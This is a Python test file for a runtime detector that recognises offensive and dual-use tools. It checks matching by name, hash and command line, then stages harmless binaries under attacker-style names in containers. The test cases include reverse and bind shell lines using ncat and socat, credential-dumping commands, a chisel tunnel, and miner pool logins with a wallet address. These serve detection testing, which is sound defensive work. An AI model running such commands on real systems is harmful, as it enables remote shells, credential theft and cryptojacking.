"""Execution:Runtime/SuspiciousTool: the catalog's loader, its matching rules, and tools really run in the task.

Only /usr and /bin of the host exist in the containers (no nmap, no netcat): a tool is staged the way an attacker
drops one, as a harmless binary or script copied under the tool's name into /tmp. A name match must catch that.
"""

from __future__ import annotations

import hashlib
import time
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest
from findings import context_of
from taskenv import SidecarHandle, TaskEnv

from collectors.events import ProcessInfo, RuntimeEvent
from collectors.process_table import ProcessTable
from detectors.base import DetectorContext
from detectors.build import FindingScope
from detectors.engine import DetectorEngine
from detectors.finding import Finding
from detectors.tools import TYPE, CatalogError, SuspiciousToolDetector, parse_tools, tool_catalog

MINER_WALLET = "44AFFq5kSiGBoZ4NMDwYtN18obc8AemS33DBLWs3H7otXft3XjrpDtQGv7SqSsaBYBb98uNbr2VBBEt7f2wfn3RVGQBEP3A"


def proc(cl: str, exe: str | None = None, name: str | None = None, sha: str | None = None) -> ProcessInfo:
    first = cl.split(maxsplit=1)[0]
    exe = exe or ("/usr/bin/" + first.rsplit("/", 1)[-1])
    return ProcessInfo(
        pid=4242, nspid=4242, ppid=1, name=name or exe.rsplit("/", 1)[-1][:15], executable_path=exe,
        executable_deleted=False, executable_sha256=sha, command_line=cl, cwd="/", uid=0, euid=0, gid=0, egid=0,
        user="root", euser="root", start_ticks=1, start_time=time.time(), uuid="u-4242", parent_uuid=None,
        ld_preload=None, ld_library_path=None, container=None, mnt_ns=None,
    )  # fmt: skip


# (command line, exe, comm) -> (toolName, level) or None
CASES: list[tuple[str, str | None, str | None, tuple[str, str] | None]] = [
    ("nmap -sS 10.0.0.0/24", None, None, ("nmap", "dual_use")),
    ("/tmp/nmap -p 22 host", "/tmp/nmap", None, ("nmap", "dual_use")),
    ("tcpdump -i any -w /tmp/x.pcap", None, None, ("tcpdump", "dual_use")),
    ("nc -lvnp 4444", None, None, ("netcat", "dual_use")),
    ("ncat -e /bin/sh 10.0.0.1 4444", None, None, ("netcat", "offensive")),
    ("busybox nc -l -p 80", "/bin/busybox", None, ("netcat", "dual_use")),
    ("socat tcp-l:80,fork exec:/bin/sh", None, None, ("socat", "offensive")),
    ("socat tcp-l:8080,fork tcp:db:5432", None, None, ("socat", "dual_use")),
    ("chisel server -p 8080", None, None, ("chisel", "dual_use")),
    ("chisel client 10.0.0.1:8080 R:socks", None, None, ("chisel", "offensive")),
    ("python3 -m impacket.examples.secretsdump dom/u@h", "/usr/bin/python3.11", "python3", ("impacket", "offensive")),
    ("/usr/bin/python3 /opt/secretsdump.py -h", "/usr/bin/python3.11", "secretsdump.py", ("impacket", "offensive")),
    ("python3 sqlmap.py -u http://x/?id=1", "/usr/bin/python3.11", "python3", ("sqlmap", "offensive")),
    ("perl nikto.pl -h x", None, None, ("nikto", "offensive")),
    ("/bin/sh ./linpeas.sh", "/usr/bin/dash", "linpeas.sh", ("LinPEAS", "offensive")),
    ("sh LinEnum.sh -t", "/usr/bin/dash", "sh", ("LinEnum", "offensive")),
    ("php c99.php", "/usr/bin/php8.2", "php", ("PHP web shell", "offensive")),
    ("hydra -l root -P pw.txt ssh://h", None, None, ("online password guesser", "offensive")),
    ("/tmp/impacket-secretsdump x", "/tmp/impacket-secretsdump", "impacket-secret", ("impacket", "offensive")),
    ("xmrig -c config.json", None, None, ("XMRig", "offensive")),
    ("cdk evaluate --full", None, None, ("CDK", "offensive")),
    (f"/tmp/.x/kworker -o pool.example:4444 -u {MINER_WALLET} -k", "/tmp/.x/kworker", None,
     ("cryptocurrency miner (by its command line)", "offensive")),
    ("/dev/shm/systemd-log --donate-level=1 -B", "/dev/shm/systemd-log", None,
     ("cryptocurrency miner (by its command line)", "offensive")),
    ("./a -a rx/0 -o stratum+tcp://h:3333", "/tmp/a", None,
     ("cryptocurrency miner (by its command line)", "offensive")),
    # a pool login, MinerGate-style, under any name
    ("/tmp/.k --url=xmr.pool.minergate.com:45700 --user=attacker@protonmail.com --pass=x -B", "/tmp/.k", None,
     ("cryptocurrency miner (by its command line)", "offensive")),
    ("/tmp/.k -o pool.example.com:3333 -u user -p x", "/tmp/.k", None,
     ("cryptocurrency miner (by its command line)", "offensive")),
    ("/tmp/.k -o 10.1.2.3:3333 -u user --threads 4", "/tmp/.k", None,
     ("cryptocurrency miner (by its command line)", "offensive")),
    # benign look-alikes
    ("nc -z -w 2 db 5432", None, None, None),
    # curl has -o and -u (and -p) too: its -o names a file
    ("curl -o out.txt -u user:pass -p http://h.example.com:8080/x", None, None, None),
    ("curl -sS -u admin:pw -o /tmp/r.json https://api.example.com:8443/v1", None, None, None),
    ("curl -u user -p -o x.example.com:80 http://y", None, None, None),
    ("ssh -o ProxyJump=bastion.example.com:22 -p 22 user@h", None, None, None),
    ("/tmp/.k -o pool.example.com:3333 -u user", "/tmp/.k", None, None),  # a login alone, nothing of a miner
    ("grep nmap notes.txt", None, None, None),
    ("apt-cache show nmap", None, None, None),
    ("grep -- --donate-level README.md", None, None, None),
    ("sh -c xmrig --donate-level 1", "/usr/bin/dash", "sh", None),  # the xmrig process itself is the finding
    ("curl -f http://localhost/health", None, None, None),
    ("ip addr show", None, None, None),
    ("ss -tlnp", None, None, None),
    ("cdk deploy MyStack", "/usr/bin/node", "node", None),  # the AWS CDK CLI, not cdk-team/CDK
    ("node /app/node_modules/.bin/cdk synth", "/usr/bin/node", "node", None),
    ("python3 app.py --scanner nmap", "/usr/bin/python3.11", "python3", None),
]  # fmt: skip


@pytest.mark.parametrize(("cl", "exe", "comm", "want"), CASES, ids=[c[0][:40] for c in CASES])
def test_catalog_matching(cl: str, exe: str | None, comm: str | None, want: tuple[str, str] | None) -> None:
    hit = tool_catalog().match(proc(cl, exe, comm))
    assert (None if hit is None else (hit[0].name, hit[1])) == want


def test_hash_match_whatever_the_name() -> None:
    digest = hashlib.sha256(Path("/bin/sleep").read_bytes()).hexdigest()
    text = (
        '[[tool]]\nname = "known implant"\ncategory = "backdoor"\nlevel = "offensive"\nnames = []\n'
        f'sha256 = ["{digest}"]\n'
    )
    cat = parse_tools(text, "user-tools.toml")
    hit = cat.match(proc("/tmp/innocent 5", "/tmp/innocent", sha=digest))
    assert hit is not None and hit[0].name == "known implant" and hit[1] == "offensive"
    assert cat.match(proc("/tmp/innocent 5", "/tmp/innocent", sha="0" * 64)) is None
    # through the engine: a finding of the right shape
    found: list[dict[str, Any]] = []
    engine = DetectorEngine(DetectorContext(table=ProcessTable()), FindingScope(), found.append, extra=[], detectors=[])
    det = SuspiciousToolDetector(engine.ctx, cat)
    for d in det.on_event(RuntimeEvent("process.exec", proc("/tmp/innocent 5", "/tmp/innocent", sha=digest))):
        engine.accept(d)
    engine.flush(force=True)
    assert len(found) == 1
    Finding.model_validate(found[0])
    assert found[0]["type"] == TYPE and found[0]["severity"] == 8.0
    assert found[0]["service"]["runtimeDetails"]["context"]["toolName"] == "known implant"


@pytest.mark.parametrize(
    ("text", "message"),
    [
        ('[[tool]]\nname = "x"\ncategory = "scanner"\nlevel = "offensive"\n', "tool #1 (x): missing names"),
        ('[[tool]]\nname = "x"\ncategory = "toy"\nlevel = "offensive"\nnames = ["x"]\n',
         "category 'toy' is not one of"),
        ('[[tool]]\nname = "x"\ncategory = "scanner"\nlevel = "high"\nnames = ["x"]\n', "level 'high' is not one of"),
        ('[[tool]]\nname = "x"\ncategory = "scanner"\nlevel = "offensive"\nnames = ["x"]\nwhen = ["("]\n',
         "tool #1 (x): when regex '(' does not compile"),
        ('[[tool]]\nname = "x"\ncategory = "scanner"\nlevel = "offensive"\nnames = ["x"]\nsha256 = ["abc"]\n',
         "sha256 'abc' is not 64 hex digits"),
        ('[[tool]]\nname = "x"\ncategory = "scanner"\nlevel = "offensive"\nnames = ["x"]\ncolour = 1\n',
         "unknown key(s) colour"),
        ('[[tool]]\nname = "a"\ncategory = "scanner"\nlevel = "offensive"\nnames = ["x"]\n'
         '[[tool]]\nname = "b"\ncategory = "scanner"\nlevel = "offensive"\nnames = ["x"]\n',
         "tool #2 (b): name 'x' is already used by tool 'a'"),
        ("[[tool]\n", "not valid TOML"),
    ],
)  # fmt: skip
def test_catalog_validation_errors(text: str, message: str) -> None:
    with pytest.raises(CatalogError) as info:
        parse_tools(text, "t.toml")
    assert message in str(info.value)
    assert str(info.value).startswith("t.toml")


# -- staged in the emulated task ----------------------------------------------------------------------------------


def tool_findings(sidecar: SidecarHandle) -> list[dict[str, Any]]:
    return [f for f in sidecar.findings() if f["type"] == TYPE]


def exe_of(f: dict[str, Any]) -> str:
    return str(f["service"]["runtimeDetails"]["process"]["executablePath"])


def exec_containing(text: str) -> Callable[[dict[str, Any]], bool]:
    return lambda e: e["kind"] == "process.exec" and text in (e["process"]["commandLine"] or "")


def run_until_seen(task: TaskEnv, sidecar: SidecarHandle, container: str, argv: list[str], text: str) -> None:
    """Run a short-lived command until the sidecar has seen its exec: a process poller can miss a program that
    exits within its first look; a benign look-alike the sidecar never saw would prove nothing."""
    for _ in range(5):
        task.run(container, argv)
        try:
            sidecar.wait_for_event(exec_containing(text), timeout=3)
            return
        except AssertionError:
            continue
    pytest.fail(f"the sidecar never saw {argv} run in {container}")


def test_tools_staged_in_the_task(task_env: TaskEnv, tmp_path: Path) -> None:
    sidecar = task_env.start_detecting(tmp_path)
    run = task_env.run
    # a dual-use scanner dropped under its own name (a copy of sleep): Low
    assert run("app", ["sh", "-c", "cp /bin/sleep /tmp/nmap && /tmp/nmap 0.5"])[0] == 0
    nmap = sidecar.wait_for_finding(lambda f: f["type"] == TYPE and exe_of(f) == "/tmp/nmap", timeout=20)
    Finding.model_validate(nmap)
    assert nmap["severity"] == 2.0 and nmap["resource"]["ecsClusterDetails"]["taskDetails"]["containers"][0]["name"]
    assert context_of(nmap)["toolName"] == "nmap" and context_of(nmap)["toolCategory"] == "scanner"
    assert context_of(nmap)["commandLineExample"] == "/tmp/nmap 0.5"
    # an offensive enumeration script run by sh: High
    Path(task_env.path_in("app", "/tmp/linpeas.sh")).write_text("sleep 0.5\n")
    assert run("app", ["sh", "/tmp/linpeas.sh"])[0] == 0
    lin = sidecar.wait_for_finding(lambda f: f["type"] == TYPE and context_of(f)["toolName"] == "LinPEAS", timeout=20)
    assert lin["severity"] == 8.0 and context_of(lin)["toolCategory"] == "recon"
    assert context_of(lin)["commandLineExample"] == "sh /tmp/linpeas.sh"
    # a renamed miner (a real binary, dash, called kworker) recognised by its XMRig options
    miner_cmd = ["/tmp/kworker", "-c", "sleep 0.5; :", "x", "--donate-level", "1", "-o", "pool.example:3333"]
    assert run("worker", ["sh", "-c", "cp /bin/dash /tmp/kworker"])[0] == 0
    assert run("worker", miner_cmd)[0] == 0
    miner = sidecar.wait_for_finding(lambda f: f["type"] == TYPE and exe_of(f) == "/tmp/kworker", timeout=20)
    assert miner["severity"] == 8.0 and context_of(miner)["toolCategory"] == "miner"
    assert "--donate-level 1" in context_of(miner)["commandLineExample"]
    # a MinerGate-style pool login on a binary with an innocent name (dash again): the options give it away
    login = ["--url=xmr.pool.minergate.com:45700", "--user=attacker@protonmail.com", "--pass=x", "-B"]
    assert run("worker", ["sh", "-c", "cp /bin/dash /tmp/systemd-helper"])[0] == 0
    assert run("worker", ["/tmp/systemd-helper", "-c", "sleep 0.5; :", "x", *login])[0] == 0
    mg = sidecar.wait_for_finding(lambda f: f["type"] == TYPE and exe_of(f) == "/tmp/systemd-helper", timeout=20)
    assert mg["severity"] == 8.0 and context_of(mg)["toolCategory"] == "miner"
    assert context_of(mg)["commandLineExample"].endswith(" ".join(login))
    # netcat listening (a script named nc, as a shebang file): dual-use, Low
    Path(task_env.path_in("worker", "/tmp/nc")).write_text("#!/bin/sh\nsleep 0.5\n")
    assert run("worker", ["sh", "-c", "chmod +x /tmp/nc && /tmp/nc -lvnp 4444"])[0] == 0
    nc = sidecar.wait_for_finding(lambda f: f["type"] == TYPE and context_of(f)["toolName"] == "netcat", timeout=20)
    assert nc["severity"] == 2.0 and "-lvnp 4444" in context_of(nc)["commandLineExample"]

    # benign look-alikes, each seen by the sidecar (its exec event) and none a finding
    Path(task_env.path_in("app", "/tmp/nc")).write_text("#!/bin/sh\nsleep 0.5\n")
    Path(task_env.path_in("app", "/tmp/nc")).chmod(0o755)
    benign = [
        ("app", ["/tmp/nc", "-z", "127.0.0.1", "9"], "-z 127.0.0.1 9"),  # a port check (another container)
        ("app", ["sh", "-c", "echo 'nmap -sS' > /tmp/notes.txt; grep nmap /tmp/notes.txt"], "grep nmap"),
        ("app", ["apt-cache", "show", "nmap"], "apt-cache show nmap"),
        ("app", ["sh", "-c", "cp /bin/sleep /tmp/tcpdump; ls -l /tmp/tcpdump"], "ls -l /tmp/tcpdump"),  # not run
        ("app", ["ip", "addr", "show"], "ip addr show"),
        ("app", ["ss", "-tln"], "ss -tln"),
        ("app", ["curl", "-sf", "http://127.0.0.1:9/health"], "curl -sf"),
        # curl with -o (a file) and -u/-p, like a miner's pool login
        ("app", ["curl", "-s", "-o", "/tmp/o", "-u", "u:p", "-p", "http://127.0.0.1:9/x"], "-o /tmp/o -u u:p"),
    ]
    for container, argv, text in benign:
        run_until_seen(task_env, sidecar, container, argv, text)
    time.sleep(1.5)
    found = {(context_of(f)["toolName"], exe_of(f)) for f in tool_findings(sidecar)}
    assert found == {
        ("nmap", "/tmp/nmap"),
        ("LinPEAS", "/usr/bin/dash"),
        ("cryptocurrency miner (by its command line)", "/tmp/kworker"),
        ("cryptocurrency miner (by its command line)", "/tmp/systemd-helper"),
        ("netcat", "/usr/bin/dash"),
    }
    assert sidecar.stop() == 0
